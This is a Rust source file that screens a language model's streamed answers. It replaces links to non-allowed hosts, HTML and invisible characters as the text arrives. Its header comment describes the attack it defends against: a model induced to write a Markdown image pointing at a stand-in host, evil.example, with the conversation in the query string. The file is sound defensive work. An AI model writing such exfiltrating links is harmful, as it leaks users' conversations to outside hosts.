//! Screening of answers: links to foreign hosts, HTML and invisible characters are taken out while the text streams in.
//!
//! A language model can be made to write `![x](https://evil.example/?q=…)`, and a client that renders this hands the
//! conversation to that host. So the output requests and links allowed hosts only, over https, whichever Markdown or
//! HTML renderer shows it. Names without a scheme and path (`example.com`, `main.rs`) and e-mail addresses stay:
//! CommonMark and GFM request no host for them. Relative links stay as well.

mod place;
mod tag;
mod unit;
mod url;
mod visible;

#[cfg(test)]
#[path = "screen_tests.rs"]
mod tests;

use place::{Authority, Place};
use unit::{Ahead, END, Form, Unit};
use url::{Hosts, Verdict};
use visible::Visible;

/// What a foreign URL is replaced by.
const REMOVED: &str = "[link removed]";

/// The longest run of punctuation that is looked through for the end of a URL, in characters.
const LONGEST_PUNCTUATION: usize = 16;

/// Screens an answer as it streams in: returns what can be shown, without foreign URLs, HTML and invisible characters.
///
/// The output is the same however the text is split. Text is held back only while its reading depends on what follows:
/// for a URL up to its host, for `<` up to `>`, at most 4 KB.
#[derive(Debug)]
pub struct Screen {
    hosts: Hosts,
    visible: Visible,
    pending: String,
    place: Place,
    /// The number of brackets open in the URL being removed; `None` outside of such URLs.
    removing: Option<u32>,
}

impl Screen {
    /// A screen that lets https URLs of the given hosts through: `example.com` is that host, `*.example.com` every
    /// subdomain of it.
    pub fn new(allowed_hosts: Vec<String>) -> Screen {
        Screen {
            hosts: Hosts::new(allowed_hosts),
            visible: Visible::default(),
            pending: String::new(),
            place: Place::default(),
            removing: None,
        }
    }

    /// Adds text; returns the text that can be shown now.
    pub fn add(&mut self, text: &str) -> String {
        self.visible.add(text, &mut self.pending);
        self.advance(false)
    }

    /// The rest, at the end of the answer.
    pub fn end(&mut self) -> String {
        self.advance(true)
    }

    /// Screens the pending text as far as its reading is certain.
    fn advance(&mut self, ended: bool) -> String {
        let pending = std::mem::take(&mut self.pending);
        let mut shown = String::with_capacity(pending.len());
        let mut rest = pending.as_str();
        while let Some(length) = self.step(rest, ended, &mut shown) {
            rest = &rest[length..];
        }
        self.pending = rest.to_owned();
        shown
    }

    /// Screens what the text begins with; returns its length in bytes, or `None` if more text is needed.
    fn step(&mut self, text: &str, ended: bool, shown: &mut String) -> Option<usize> {
        let first = text.chars().next()?;
        if let Some(depth) = self.removing {
            let (length, depth) = removed(text, depth, ended)?;
            self.removing = depth;
            return Some(length);
        }
        if first == '<' {
            let is_kept = tag::is_kept(text, ended, self.place.is_destination(), &self.hosts)?;
            self.show(if is_kept { "<" } else { "&lt;" }, shown);
            return Some(1);
        }
        let unit = Unit::first(text, ended)?;
        match self.verdict(text, unit, ended)? {
            Verdict::Foreign => {
                self.show(REMOVED, shown);
                self.removing = Some(0);
                Some(unit.length)
            }
            Verdict::Allowed(length) => {
                self.show(&text[..length], shown);
                self.place.authority = Authority::Open;
                Some(length)
            }
            Verdict::Harmless => self.pass(text, unit, ended, shown),
        }
    }

    /// Shows text that needs no screening.
    fn show(&mut self, text: &str, shown: &mut String) {
        shown.push_str(text);
        text.chars().for_each(|character| self.place.note(character.to_ascii_lowercase()));
    }

    /// Judges the URL or LaTeX command that may begin here.
    fn verdict(&self, text: &str, unit: Unit, ended: bool) -> Option<Verdict> {
        let precedes = unit.read.is_none_or(place::precedes_destination);
        if self.place.is_destination() && precedes && unit.form == Form::Encoded {
            return Some(Verdict::Foreign);
        }
        let Some(character) = unit.read else { return Some(Verdict::Harmless) };
        if self.place.is_destination() && !precedes {
            let verdict = url::destination(text, ended, &self.hosts)?;
            if verdict != Verdict::Harmless {
                return Some(verdict);
            }
        }
        match character {
            'a'..='z' if !self.place.last.is_ascii_alphabetic() => url::with_scheme(text, ended, &self.hosts),
            '/' | '?' if self.place.follows_domain() => url::after_domain(text, ended),
            '.' if self.place.follows_www() => url::after_www(text, ended),
            ':' => url::after_scheme(text, ended),
            '/' if !self.place.last.is_alphanumeric() && self.place.last != '/' => {
                url::relative_to_scheme(text, ended, self.place.begins_value())
            }
            '\\' => url::command(text, ended),
            _ => Some(Verdict::Harmless),
        }
    }

    /// Shows a unit of text.
    ///
    /// After an allowed host, some renderers take all text up to the next space as part of the host. A space ends it
    /// before the text could name another host.
    fn pass(&mut self, text: &str, unit: Unit, ended: bool, shown: &mut String) -> Option<usize> {
        let may_go_on = unit.read == Some('.') && self.place.authority == Authority::Open;
        let next = if may_go_on { Ahead::new(&text[unit.length..], ended).peek()? } else { END };
        if unit.read == Some('@') && self.place.authority != Authority::Closed {
            self.show(" ", shown);
        }
        if unit.form == Form::Escaped {
            shown.push_str("&amp;");
            shown.push_str(&text[1..unit.length]);
        } else {
            shown.push_str(&text[..unit.length]);
        }
        // Structure is ASCII: a fullwidth bracket is none.
        let written = text.chars().next().filter(|first| !first.is_ascii());
        match written.or(unit.read) {
            Some(character) if unit.form == Form::Encoded => self.place.note_encoded(character),
            Some(character) => self.place.note(character),
            None => {}
        }
        if may_go_on && (url::continues_host(next) || next == '_') {
            self.show(" ", shown);
        }
        Some(unit.length)
    }
}

/// Screens a whole text; the same as any split of it.
pub fn screened(text: &str, allowed_hosts: &[String]) -> String {
    let mut screen = Screen::new(allowed_hosts.to_vec());
    screen.add(text) + &screen.end()
}

/// The length of the next part of a URL being removed, and the number of its open brackets, `None` at its end.
fn removed(text: &str, depth: u32, ended: bool) -> Option<(usize, Option<u32>)> {
    let first = text.chars().next()?;
    let end = Some((0, None));
    match first {
        _ if ends_url(first) => end,
        '(' | '[' | '{' => Some((1, Some(depth + 1))),
        ')' | ']' | '}' if depth == 0 => end,
        ')' | ']' | '}' => Some((1, Some(depth - 1))),
        _ if is_sentence_punctuation(first) => {
            let mut run = text.chars().take(LONGEST_PUNCTUATION);
            match run.find(|next| !is_sentence_punctuation(*next)) {
                Some(next) if ends_url(next) || depth == 0 && matches!(next, ')' | ']' | '}') => end,
                None if text.chars().nth(LONGEST_PUNCTUATION - 1).is_none() => ended.then_some((0, None)),
                _ => Some((first.len_utf8(), Some(depth))),
            }
        }
        _ => Some((first.len_utf8(), Some(depth))),
    }
}

/// Whether a removed URL ends before the character.
fn ends_url(character: char) -> bool {
    character.is_whitespace()
        || matches!(character, '<' | '>' | '"' | '\'' | '`' | '|')
        || matches!(character, '，' | '。' | '、' | '；' | '：' | '！' | '？' | '（' | '）' | '…')
        || matches!(character, '「' | '」' | '『' | '』' | '《' | '》' | '【' | '】' | '“' | '”' | '‘' | '’')
}

/// Whether the character belongs to the sentence rather than to the URL if it comes last.
fn is_sentence_punctuation(character: char) -> bool {
    matches!(character, '*' | '_' | '~' | '.' | ',' | ';' | ':' | '!' | '?' | '$')
}
